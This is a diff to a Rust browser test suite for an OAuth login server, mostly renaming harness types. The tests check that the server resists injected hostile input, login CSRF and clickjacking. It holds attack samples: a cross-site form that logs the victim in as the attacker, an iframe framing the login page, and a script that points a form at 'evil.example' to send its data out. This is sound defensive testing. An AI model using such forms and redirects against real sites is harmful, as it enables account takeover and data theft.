@@ -5,15 +5,15 @@ use url::form_urlencoded;
 
 use crate::{
     harness::{
-        House, PASSWORD,
+        PASSWORD, TestApp,
         browser::Browser,
+        browser_session::{BrowserSession, hidden},
         callback::{BACK, Callback},
         driver::FOREIGN_HOST,
-        elsewhere::Elsewhere,
-        place::Client,
+        other_origin::OtherOrigin,
         relying_party::{CHALLENGE, RelyingParty},
         stories_on,
-        surfer::{Surfer, hidden},
+        test_env::Client,
     },
     page_attacks::HOSTILE,
 };
@@ -21,13 +21,13 @@ use crate::{
 const NAME: &str = "Username or email address";
 
 /// A client with this name that gets its codes at a site of its own.
-async fn client(house: &House, name: &str, app: &Callback, more: &[&str]) -> Client {
+async fn client(signet: &TestApp, name: &str, app: &Callback, more: &[&str]) -> Client {
     let options = ["--name", name, "--redirect-uri", &app.url, "--grant", "authorization_code", "--scope", "openid"];
-    house.registers_client(&[&options[..], more].concat()).await
+    signet.registers_client(&[&options[..], more].concat()).await
 }
 
 /// The address of a request, with these parameters besides.
-fn link(house: &House, client: &Client, app: &Callback, more: &[(&str, &str)]) -> String {
+fn link(signet: &TestApp, client: &Client, app: &Callback, more: &[(&str, &str)]) -> String {
     let usual = [
         ("response_type", "code"),
         ("client_id", client.id.as_str()),
@@ -36,7 +36,7 @@ fn link(house: &House, client: &Client, app: &Callback, more: &[(&str, &str)]) -
         ("code_challenge_method", "S256"),
     ];
     let query = form_urlencoded::Serializer::new(String::new()).extend_pairs(usual).extend_pairs(more).finish();
-    format!("{}/oauth/authorize?{query}", house.issuer)
+    format!("{}/oauth/authorize?{query}", signet.issuer)
 }
 
 async fn logs_in(browser: &Browser, username: &str, password: &str) {
@@ -54,10 +54,10 @@ async fn is_harmless(browser: &Browser, what: &str) {
     assert!(complaints.is_empty(), "only the policy stopped {what}: {complaints:?}");
 }
 
-async fn whatever_a_request_says_is_text(house: House) {
+async fn whatever_a_request_says_is_text(signet: TestApp) {
     let app = Callback::serves().await;
-    let plain = client(&house, "Lighthouse", &app, &["--first-party"]).await;
-    house.registers("ada").await;
+    let plain = client(&signet, "Lighthouse", &app, &["--first-party"]).await;
+    signet.registers("ada").await;
     let browser = Browser::open().await;
     // Every parameter, known or not, in the address of each page; those that hide the others apart from them.
     let names = [
@@ -70,12 +70,12 @@ async fn whatever_a_request_says_is_text(house: House) {
             let pairs = names.split_whitespace().map(|name| (name, text));
             let query = form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish();
             for path in ["/oauth/authorize", "/login", "/register", "/consent"] {
-                browser.visits(&format!("{}{path}?{query}", house.issuer)).await;
+                browser.visits(&format!("{}{path}?{query}", signet.issuer)).await;
                 is_harmless(&browser, &format!("{path}: {text}")).await;
             }
         }
         let hint: String = text.chars().filter(|c| !c.is_control()).collect();
-        browser.visits(&link(&house, &plain, &app, &[("login_hint", &hint)])).await;
+        browser.visits(&link(&signet, &plain, &app, &[("login_hint", &hint)])).await;
         browser.sees("to go on to Lighthouse").await;
         assert_eq!(browser.value(NAME).await, hint);
         is_harmless(&browser, text).await;
@@ -83,19 +83,19 @@ async fn whatever_a_request_says_is_text(house: House) {
     browser.closes().await;
 }
 
-async fn whatever_is_typed_or_registered_is_text(house: House) {
+async fn whatever_is_typed_or_registered_is_text(signet: TestApp) {
     let app = Callback::serves().await;
     let browser = Browser::open().await;
     for (n, text) in HOSTILE.into_iter().enumerate() {
-        browser.forgets_cookies_of(&house.issuer).await;
-        browser.visits(&format!("{}/login", house.issuer)).await;
+        browser.forgets_cookies_of(&signet.issuer).await;
+        browser.visits(&format!("{}/login", signet.issuer)).await;
         logs_in(&browser, text, text).await;
         browser.sees("The name or the password is wrong.").await;
         assert_eq!(browser.value(NAME).await, text);
         assert_eq!(browser.value("Password").await, "", "a password is never sent back");
         is_harmless(&browser, text).await;
 
-        browser.visits(&format!("{}/register", house.issuer)).await;
+        browser.visits(&format!("{}/register", signet.issuer)).await;
         browser.types("Username", text).await;
         browser.types("Password", PASSWORD).await;
         browser.presses("Create the account").await;
@@ -107,11 +107,11 @@ async fn whatever_is_typed_or_registered_is_text(house: House) {
             // No client has such a name.
             continue;
         }
-        let hostile = client(&house, text, &app, &[]).await;
+        let hostile = client(&signet, text, &app, &[]).await;
         let username = format!("ada{n}");
-        house.registers(&username).await;
+        signet.registers(&username).await;
         browser.forgets_cookies().await;
-        browser.visits(&link(&house, &hostile, &app, &[("state", text), ("response_mode", "form_post")])).await;
+        browser.visits(&link(&signet, &hostile, &app, &[("state", text), ("response_mode", "form_post")])).await;
         browser.sees("to go on to").await;
         is_harmless(&browser, text).await;
         logs_in(&browser, &username, PASSWORD).await;
@@ -120,29 +120,29 @@ async fn whatever_is_typed_or_registered_is_text(house: House) {
         browser.presses("Allow").await;
         browser.sees(BACK).await;
         assert_eq!(app.brought("state"), text);
-        assert_eq!(app.brought("iss"), house.issuer);
+        assert_eq!(app.brought("iss"), signet.issuer);
     }
     browser.closes().await;
 }
 
 /// An attacker has a form of the log-in page, for the victim's browser to send as the attacker.
-async fn another_site_logs_nobody_in(house: House) {
-    house.registers("eve").await;
-    let attacker = Surfer::at(&house);
+async fn another_site_logs_nobody_in(signet: TestApp) {
+    signet.registers("eve").await;
+    let attacker = BrowserSession::at(&signet);
     let page = attacker.opens("/login").await.is(200);
     let inputs = hidden(&page.text(), "/login");
     let inputs = inputs.iter().map(|(name, value)| format!("<input name={name} value=\"{value}\">"));
     let form = format!(
         "<!doctype html><title>Win</title><form method=post action=\"{}/login\">{}<input name=username value=eve>\
          <input name=password value=\"{PASSWORD}\"><button>You win</button></form>",
-        house.issuer,
+        signet.issuer,
         inputs.collect::<String>()
     );
-    let elsewhere = Elsewhere::serves(form).await;
+    let other_origin = OtherOrigin::serves(form).await;
     let browser = Browser::open().await;
-    browser.visits(&format!("{}/login", house.issuer)).await;
+    browser.visits(&format!("{}/login", signet.issuer)).await;
     for host in [FOREIGN_HOST, "localhost", "127.0.0.1"] {
-        browser.visits(&elsewhere.at(host)).await;
+        browser.visits(&other_origin.at(host)).await;
         browser.presses("You win").await;
         browser.sees("This form came from elsewhere").await;
         assert!(browser.cookies().await.iter().all(|cookie| !cookie.name().ends_with("session")), "{host}");
@@ -150,20 +150,20 @@ async fn another_site_logs_nobody_in(house: House) {
     browser.closes().await;
 }
 
-async fn no_other_site_frames_a_log_in(house: House) {
+async fn no_other_site_frames_a_log_in(signet: TestApp) {
     let app = Callback::serves().await;
-    let third = client(&house, "Lighthouse", &app, &[]).await;
-    let ada = house.registers("ada").await;
+    let third = client(&signet, "Lighthouse", &app, &[]).await;
+    let ada = signet.registers("ada").await;
     let browser = Browser::open().await;
-    browser.visits(&link(&house, &third, &app, &[])).await;
+    browser.visits(&link(&signet, &third, &app, &[])).await;
     logs_in(&browser, "ada", &ada.password).await;
     browser.sees("Allow Lighthouse?").await;
     let consent = browser.url().await.to_string();
-    for page in [format!("{}/login?return_to=/x", house.issuer), format!("{}/register", house.issuer), consent] {
+    for page in [format!("{}/login?return_to=/x", signet.issuer), format!("{}/register", signet.issuer), consent] {
         let frame = format!("<!doctype html><title>Frame</title><iframe src=\"{page}\" width=800 height=600></iframe>");
-        let elsewhere = Elsewhere::serves(frame).await;
+        let other_origin = OtherOrigin::serves(frame).await;
         for host in [FOREIGN_HOST, "127.0.0.1"] {
-            browser.visits(&elsewhere.at(host)).await;
+            browser.visits(&other_origin.at(host)).await;
             let shown = browser.text_in_frame().await;
             assert!(!shown.contains("Signet") && !shown.contains("Lighthouse"), "{page} is shown: {shown}");
             browser.complaints().await;
@@ -173,11 +173,11 @@ async fn no_other_site_frames_a_log_in(house: House) {
 }
 
 /// The policy of the pages lets a form lead to the client that asked, and nowhere else.
-async fn a_form_leads_to_its_client_and_nowhere_else(house: House) {
-    let app = RelyingParty::registers_first_party(&house).await;
-    house.registers("ada").await;
+async fn a_form_leads_to_its_client_and_nowhere_else(signet: TestApp) {
+    let app = RelyingParty::registers_first_party(&signet).await;
+    signet.registers("ada").await;
     let browser = Browser::open().await;
-    browser.visits(&format!("{}{}", house.issuer, app.link(&[]))).await;
+    browser.visits(&format!("{}{}", signet.issuer, app.link(&[]))).await;
     browser.sees("to go on to Lighthouse").await;
     let script = "document.forms[0].action = arguments[0]; document.forms[0].submit()";
     browser.runs(script, vec![json!("https://evil.example/")]).await;
